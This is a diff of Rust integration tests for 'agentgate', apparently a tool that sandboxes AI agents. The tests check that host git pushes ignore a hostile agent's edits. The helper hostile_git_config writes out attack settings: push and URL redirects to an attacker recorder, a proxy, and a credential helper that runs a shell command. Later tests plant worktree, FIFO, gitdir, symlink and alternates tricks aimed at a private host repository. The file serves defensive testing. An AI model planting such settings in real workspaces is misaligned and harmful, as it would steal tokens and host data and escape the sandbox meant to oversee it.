@@ -12,7 +12,7 @@ mod support;
 use std::path::Path;
 use std::process::{Command, Output};
 
-use git_server::{git, git_available, make_repo, Daemon, HttpGit};
+use git_server::{git, git_available, make_repo, Daemon, HttpGit, Recorder};
 use support::{shell_agent, stderr, task_spec, Home};
 
 /// A token distinctive enough to grep for.
@@ -415,4 +415,361 @@ fn status_diff_commit_and_push() {
     assert!(!std::fs::read_to_string(work.join(".git/config"))
         .unwrap()
         .contains(TOKEN));
+}
+
+/// Runs the `pushing-workspace` fixture (granted `events` and `git`): it clones `url`
+/// with the host variable `PUSH_TOKEN`, the agent runs `script` in a `subprocess`
+/// sandbox, then at release, the agent gone, the plugin commits, checks out
+/// `agent/work` and pushes it through the host's `git` capability.
+fn run_push_back(home: &Home, url: &str, script: &str) -> Output {
+    let execution = format!(
+        "workspace:\n  source: push-back\n  options:\n    url: {url}\n    branch: agent/work\n    tokenEnv: PUSH_TOKEN\nsandbox:\n  provider: subprocess\n  resources:\n    timeout: 60s\n{}",
+        shell_agent(script)
+    );
+    let path = home.dir.path().join("task.yaml");
+    std::fs::write(&path, task_spec("push-back", "work on it", &execution)).unwrap();
+    Command::new(env!("CARGO_BIN_EXE_agentgate"))
+        .args(["run", path.to_str().unwrap(), "--plugin-dir"])
+        .arg(support::fixture_plugins())
+        .args(["--grant", "pushing-workspace=events,git"])
+        .env("AGENTGATE_HOME", home.dir.path())
+        .env_remove("AGENTGATE_PLUGIN_PATH")
+        .env_remove("GITHUB_TOKEN")
+        .env("PUSH_TOKEN", TOKEN)
+        .output()
+        .expect("running agentgate")
+}
+
+/// What a hostile agent appends to the workspace's `.git/config` so that a host push
+/// goes to `attacker` (and hands it the token), runs a credential helper that writes
+/// `marker` on the host, and reads `include` (a host file the agent cannot write).
+fn hostile_git_config(real: &str, attacker: &str, marker: &Path, include: &Path) -> String {
+    format!(
+        "[url \"{attacker}\"]\n\tpushInsteadOf = {real}\n\tinsteadOf = {real}\n\
+         [http]\n\tproxy = {attacker}\n\textraHeader = X-Stolen: yes\n\tsslVerify = false\n\
+         [credential]\n\thelper = \"!sh -c \\\"echo pwned > {marker}\\\"\"\n\
+         [remote \"origin\"]\n\turl = {attacker}app.git\n\tpushurl = {attacker}app.git\n\
+         [core]\n\thooksPath = /tmp\n\
+         [include]\n\tpath = {include}\n",
+        marker = marker.display(),
+        include = include.display(),
+    )
+}
+
+/// The agent's script: it changes a file, rewrites `.git/config`, and says it ran.
+fn hostile_agent(config: &str) -> String {
+    format!(
+        "echo 'agent work' > WORK.md\ncat >> .git/config <<'EOF'\n{config}EOF\necho AGENT-RAN\n"
+    )
+}
+
+/// Break 4 of issue 16: a host push after the agent ran follows nothing the agent
+/// wrote in `.git/config`. The push reaches the URL recorded at the clone, the
+/// attacker's server sees no request at all, the credential helper never runs, and
+/// the token is written nowhere.
+#[test]
+fn a_host_push_ignores_what_the_agent_wrote_in_git_config() {
+    if !git_available() {
+        return;
+    }
+    let root = tempfile::tempdir().unwrap();
+    make_repo(root.path(), "app");
+    let server = HttpGit::start(root.path(), Some(TOKEN));
+    let attacker = Recorder::start();
+    let real = format!("http://127.0.0.1:{}/", server.port);
+    let marker = root.path().join("helper-ran");
+    // A host file the agent cannot write, included by the agent's config: it also
+    // sends pushes to the attacker.
+    let include = root.path().join("host.gitconfig");
+    std::fs::write(
+        &include,
+        format!("[url \"{}\"]\n\tpushInsteadOf = {real}\n", attacker.url()),
+    )
+    .unwrap();
+    let home = Home::new();
+    let config = hostile_git_config(&real, &attacker.url(), &marker, &include);
+    let output = run_push_back(&home, &server.url("app"), &hostile_agent(&config));
+
+    // The agent ran and rewrote the config.
+    assert!(home.dir.path().join("runs").exists(), "{}", stderr(&output));
+    assert!(
+        home.log("stdout.log").contains("AGENT-RAN"),
+        "{}",
+        stderr(&output)
+    );
+    let workspace = home.run_folder().join("workspace");
+    let written = std::fs::read_to_string(workspace.join(".git/config")).unwrap();
+    assert!(written.contains("pushInsteadOf"), "{written}");
+
+    assert!(
+        output.status.success() && home.result()["error"].is_null(),
+        "{}\n{}",
+        stderr(&output),
+        home.result()
+    );
+    assert_eq!(
+        attacker.seen(),
+        Vec::<String>::new(),
+        "the attacker was contacted"
+    );
+    let bare = root.path().join("app.git");
+    assert_eq!(
+        git(&bare, &["show", "refs/heads/agent/work:WORK.md"]),
+        "agent work"
+    );
+    assert_eq!(
+        git(&bare, &["rev-parse", "refs/heads/agent/work"]),
+        git(&workspace, &["rev-parse", "HEAD"])
+    );
+    assert!(
+        !marker.exists(),
+        "the agent's credential helper ran on the host"
+    );
+    assert!(!written.contains(TOKEN));
+    assert_eq!(
+        files_containing(home.dir.path(), TOKEN),
+        Vec::<String>::new()
+    );
+}
+
+/// A push the real server refuses fails the release with an error that names the URL
+/// recorded at the clone, never the one the agent wrote in `.git/config`.
+#[test]
+fn a_refused_host_push_names_the_recorded_url() {
+    if !git_available() {
+        return;
+    }
+    let root = tempfile::tempdir().unwrap();
+    let repo = make_repo(root.path(), "app");
+    let hook = repo.bare.join("hooks/pre-receive");
+    std::fs::write(&hook, "#!/bin/sh\necho no pushes here >&2\nexit 1\n").unwrap();
+    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    let server = HttpGit::start(root.path(), Some(TOKEN));
+    let attacker = Recorder::start();
+    let real = format!("http://127.0.0.1:{}/", server.port);
+    let marker = root.path().join("helper-ran");
+    let include = root.path().join("host.gitconfig");
+    std::fs::write(&include, "[core]\n\tautocrlf = false\n").unwrap();
+    let home = Home::new();
+    let config = hostile_git_config(&real, &attacker.url(), &marker, &include);
+    let output = run_push_back(&home, &server.url("app"), &hostile_agent(&config));
+
+    assert!(home.dir.path().join("runs").exists(), "{}", stderr(&output));
+    assert!(
+        home.log("stdout.log").contains("AGENT-RAN"),
+        "{}",
+        stderr(&output)
+    );
+    // A release that fails is a cleanup error: in result.json, not in the exit code.
+    let error = home.result()["error"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    assert!(
+        error.contains(&format!("{}: the server rejected", server.url("app"))),
+        "{error}"
+    );
+    assert!(!error.contains(&attacker.url()), "{error}");
+    assert_eq!(
+        attacker.seen(),
+        Vec::<String>::new(),
+        "the attacker was contacted"
+    );
+    assert!(
+        !marker.exists(),
+        "the agent's credential helper ran on the host"
+    );
+    assert_eq!(
+        files_containing(home.dir.path(), TOKEN),
+        Vec::<String>::new()
+    );
+}
+
+/// Runs `work` on a thread and waits for it at most `secs` seconds: a host call that
+/// reads a FIFO the agent planted would otherwise hang the test instead of failing it.
+fn within<T: Send + 'static>(secs: u64, work: impl FnOnce() -> T + Send + 'static) -> T {
+    let (send, receive) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        let _ = send.send(work());
+    });
+    receive
+        .recv_timeout(std::time::Duration::from_secs(secs))
+        .expect("the host git call hung")
+}
+
+/// The library calls of the `git` capability against a token-protected server, and a
+/// host repository (with a private commit) that the agent must not reach.
+struct Library {
+    root: tempfile::TempDir,
+    bare: std::path::PathBuf,
+    server: HttpGit,
+    secret: agentgate::capabilities::git::credentials::Secret,
+    private: std::path::PathBuf,
+    private_commit: String,
+}
+
+impl Library {
+    fn new() -> Library {
+        use agentgate::capabilities::git::credentials::Secret;
+        use agentgate::runtime::bindings::git::Credentials;
+        let root = tempfile::tempdir().unwrap();
+        let repo = make_repo(root.path(), "app");
+        let server = HttpGit::start(root.path(), Some(TOKEN));
+        let secret = Secret::resolve(&Credentials::Token(TOKEN.into())).unwrap();
+        let private = root.path().join("private");
+        std::fs::create_dir_all(&private).unwrap();
+        git(&private, &["init", "-q", "-b", "main"]);
+        std::fs::write(private.join("secret.txt"), "host secret\n").unwrap();
+        git(&private, &["add", "-A"]);
+        git(&private, &["commit", "-q", "-m", "private"]);
+        let private_commit = git(&private, &["rev-parse", "HEAD"]);
+        Library {
+            bare: repo.bare,
+            root,
+            server,
+            secret,
+            private,
+            private_commit,
+        }
+    }
+
+    /// A clone made with the git CLI, as a workspace the agent then had its way with.
+    fn checkout(&self, name: &str) -> std::path::PathBuf {
+        let work = self.root.path().join(name);
+        git(
+            self.root.path(),
+            &[
+                "clone",
+                "-q",
+                self.bare.to_str().unwrap(),
+                work.to_str().unwrap(),
+            ],
+        );
+        work
+    }
+
+    fn server_has(&self, object: &str) -> bool {
+        Command::new("git")
+            .args(["cat-file", "-e", object])
+            .current_dir(&self.bare)
+            .status()
+            .unwrap()
+            .success()
+    }
+}
+
+/// `core.worktree` aimed at a host repository's folder, `core.bare`, and an
+/// `include.path` that is a FIFO: status and commit read none of it (the FIFO would
+/// hang them), and commit only the workspace's files.
+#[test]
+fn host_git_calls_read_no_setting_of_the_workspace() {
+    use agentgate::capabilities::git;
+    if !git_available() {
+        return;
+    }
+    let lib = Library::new();
+    let work = lib.checkout("worktree");
+    let fifo = lib.root.path().join("fifo");
+    assert!(Command::new("mkfifo")
+        .arg(&fifo)
+        .status()
+        .unwrap()
+        .success());
+    let config = work.join(".git/config");
+    let original = std::fs::read_to_string(&config).unwrap();
+    let hostile = format!(
+        "{original}[core]\n\tworktree = {}\n\tbare = true\n[include]\n\tpath = {}\n",
+        lib.private.display(),
+        fifo.display()
+    );
+    std::fs::write(&config, hostile).unwrap();
+    std::fs::write(work.join("mine.txt"), "mine\n").unwrap();
+    // A FIFO in the work tree is no file to read either.
+    assert!(Command::new("mkfifo")
+        .arg(work.join("pipe"))
+        .status()
+        .unwrap()
+        .success());
+    let w = work.clone();
+    let changes = within(30, move || git::status(&w)).unwrap();
+    let paths: Vec<&str> = changes.iter().map(|c| c.path.as_str()).collect();
+    assert_eq!(paths, ["mine.txt"]);
+    let w = work.clone();
+    let sha = within(30, move || {
+        git::commit_all(&w, "work", "A", "a@example.com")
+    })
+    .unwrap();
+    // The git CLI would read the FIFO too: put the config back to look.
+    std::fs::write(&config, original).unwrap();
+    assert_eq!(git(&work, &["rev-parse", "HEAD"]), sha);
+    assert_eq!(
+        git(&work, &["show", "--name-only", "--format=", "HEAD"]),
+        "mine.txt"
+    );
+}
+
+/// A `.git` that is a `gitdir:` file, or a symlink, to a host repository is refused,
+/// never followed: the host repository's commit is neither read nor pushed.
+#[test]
+fn a_dot_git_file_or_symlink_is_not_followed() {
+    use agentgate::capabilities::git;
+    if !git_available() {
+        return;
+    }
+    let lib = Library::new();
+    for plant in ["file", "symlink"] {
+        let work = lib.checkout(&format!("git{plant}"));
+        std::fs::remove_dir_all(work.join(".git")).unwrap();
+        let target = lib.private.join(".git");
+        if plant == "file" {
+            std::fs::write(work.join(".git"), format!("gitdir: {}\n", target.display())).unwrap();
+        } else {
+            std::os::unix::fs::symlink(&target, work.join(".git")).unwrap();
+        }
+        let err = git::head(&work).unwrap_err().to_string();
+        assert!(err.contains(".git is not a directory"), "{plant}: {err}");
+        let err = git::push(
+            &work,
+            &lib.server.url("app"),
+            "HEAD:refs/heads/stolen",
+            &lib.secret,
+        )
+        .unwrap_err()
+        .to_string();
+        assert!(err.contains(".git is not a directory"), "{plant}: {err}");
+        assert!(!lib.server_has(&lib.private_commit), "{plant}");
+    }
+}
+
+/// `objects/info/alternates` naming a host repository's objects, and a ref naming its
+/// commit: a push of that ref does not carry the host repository's commit.
+#[test]
+fn alternates_lend_no_host_objects_to_a_push() {
+    use agentgate::capabilities::git;
+    if !git_available() {
+        return;
+    }
+    let lib = Library::new();
+    let work = lib.checkout("alternates");
+    std::fs::write(
+        work.join(".git/objects/info/alternates"),
+        format!("{}\n", lib.private.join(".git/objects").display()),
+    )
+    .unwrap();
+    std::fs::write(
+        work.join(".git/refs/heads/stolen"),
+        format!("{}\n", lib.private_commit),
+    )
+    .unwrap();
+    let pushed = git::push(
+        &work,
+        &lib.server.url("app"),
+        "refs/heads/stolen:refs/heads/stolen",
+        &lib.secret,
+    );
+    assert!(pushed.is_err());
+    assert!(
+        !lib.server_has(&lib.private_commit),
+        "the host repository's commit reached the server"
+    );
 }
